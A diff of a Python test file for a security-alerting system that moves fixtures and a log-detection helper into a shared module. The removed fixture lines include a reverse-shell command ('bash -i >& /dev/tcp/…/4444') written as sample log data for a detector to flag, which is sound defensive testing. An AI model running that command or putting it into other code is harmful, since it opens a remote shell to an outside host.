@@ -3,20 +3,15 @@
 
 from dataclasses import replace
 from datetime import timedelta
-from zoneinfo import ZoneInfo
 
 import pytest
 from django.urls import reverse
 from django.utils import timezone
 
+from tinhso.faces.desk.tests.alerting import LINES, LOOKED, raised
 from tinhso.modules.onestop.tests import world
-from tinhso.modules.security.actions import detecting
 from tinhso.modules.security.collect import segments
-from tinhso.modules.security.collect.reader import Batch
-from tinhso.modules.security.collect.records import Record, Way
 from tinhso.modules.security.collect.segments import Position
-from tinhso.modules.security.detection.pipeline import Machine, Pipeline
-from tinhso.modules.security.detection.rulebook import loaded
 from tinhso.modules.security.models import Alert, DetectorPlace, Suppression
 from tinhso.modules.security.queries import trying
 from tinhso.modules.security.store import connecting
@@ -24,34 +19,6 @@ from tinhso.modules.security.store.client import Store
 from tinhso.modules.security.store.tests.running import Running
 
 LIST, RULES, SEARCH = (reverse(f"desk:{name}") for name in ("alerts", "detection_rules", "events"))
-LOOKED = "Đã xem, quản trị viên gõ nhầm lệnh."
-LINES = (
-    "<85>1 - may-1 sudo 5 - - lan : user NOT in sudoers",
-    "<85>1 - may-2 sudo 5 - - lan : user NOT in sudoers",
-    "<14>1 - may-1 app 5 - - bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
-)
-
-
-def raised(people, *lines: str):
-    """Take lines as the detector does; return what the pipeline made of them."""
-    detecting.claim_place(7)
-    DetectorPlace.objects.update(segment=1, offset=0)
-    rulebook = loaded([])
-    pipeline = Pipeline(
-        rulebook,
-        lambda one, event: Machine(event["host"], None, people.unit.id),
-        spool=7,
-        zone=ZoneInfo("UTC"),
-        keep_days=365,
-    )
-    arrived = int(timezone.now().timestamp() * 1e9)
-    records = tuple(Record(Way.TCP, arrived, line.encode(), "10.1.2.3") for line in lines)
-    taken = pipeline.take(
-        Batch(records, Position(1, 900), starts=tuple(range(0, 100 * len(lines), 100))), Position(1, 0)
-    )
-    detecting.note_rules(rulebook)
-    detecting.keep_batch(taken, Position(1, 0), rulebook, now=timezone.now())
-    return taken
 
 
 @pytest.fixture
